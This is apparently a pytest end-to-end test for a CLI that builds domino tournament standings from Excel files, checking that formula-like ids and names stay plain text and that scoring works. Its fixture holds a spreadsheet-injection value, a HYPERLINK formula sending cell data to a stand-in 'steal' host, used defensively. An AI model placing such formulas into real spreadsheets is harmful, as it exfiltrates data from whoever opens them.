"""End to end: hostile-looking names stay text, every script survives, no formula is ever written."""

from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from tables import table_rows
from typer.testing import CliRunner

from pipeline.cli import app

NAMES = {
    "=1+1": '=HYPERLINK("http://example.invalid/steal?d="&A1,"click")',
    "+7": "+1 trick",
    "-3": "-2 penalty",
    "@x": "@SUM(A1:A9)",
    "李": "李伟 & 王芳",
    "ñ": "Peña Núñez & Díaz",
}


def hostile_event(path: Path) -> Path:
    """A fixed-pairs domino event whose ids and names look like formulas or use other scripts."""
    book = Workbook()
    players = book.active
    players.title = "Players"
    players.append(["ID", "Name"])
    for pid, name in NAMES.items():
        players.append([pid, name])
    matches = book.create_sheet("Matches")
    matches.append(["Round", "Table", "A1", "A2", "B1", "B2", "A Pips", "B Pips"])
    ids = list(NAMES)
    matches.append([1, 1, ids[0], None, ids[1], None, 100, 0])
    matches.append([1, 2, ids[2], None, ids[3], None, 40, 100])
    matches.append([1, 3, ids[4], None, ids[5], None, 100, 70])
    for (
        sheet
    ) in book.worksheets:  # openpyxl would store "=..." as a formula: force text, as Excel does with '
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
    book.save(path)
    return path


@pytest.fixture
def output(tmp_path: Path) -> Path:
    source = hostile_event(tmp_path / "event.xlsx")
    out = tmp_path / "standings.xlsx"
    result = CliRunner().invoke(app, ["domino", "standings", str(source), "-o", str(out)])
    assert result.exit_code == 0, result.output
    return out


def test_no_cell_of_the_output_is_a_formula(output: Path) -> None:
    book = load_workbook(output)
    kinds = {cell.data_type for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    assert "f" not in kinds
    assert "s" in kinds and "n" in kinds


def test_formula_looking_ids_and_names_come_back_exactly(output: Path) -> None:
    header, *rows = table_rows(load_workbook(output)["Standings"])
    got = {r[header.index("Pair")]: r[header.index("Name")] for r in rows}
    assert got == NAMES


def test_the_winners_of_each_match_score_three_or_one(output: Path) -> None:
    header, *rows = table_rows(load_workbook(output)["Standings"])
    points = {r[header.index("Pair")]: r[header.index("Points")] for r in rows}
    # 100-0: the loser made 0 pips, 3 points; 40-100: loser 40 <= half of 100, 2 points; 100-70: 1 point
    assert points == {"=1+1": 3, "+7": 0, "-3": 0, "@x": 2, "李": 1, "ñ": 0}
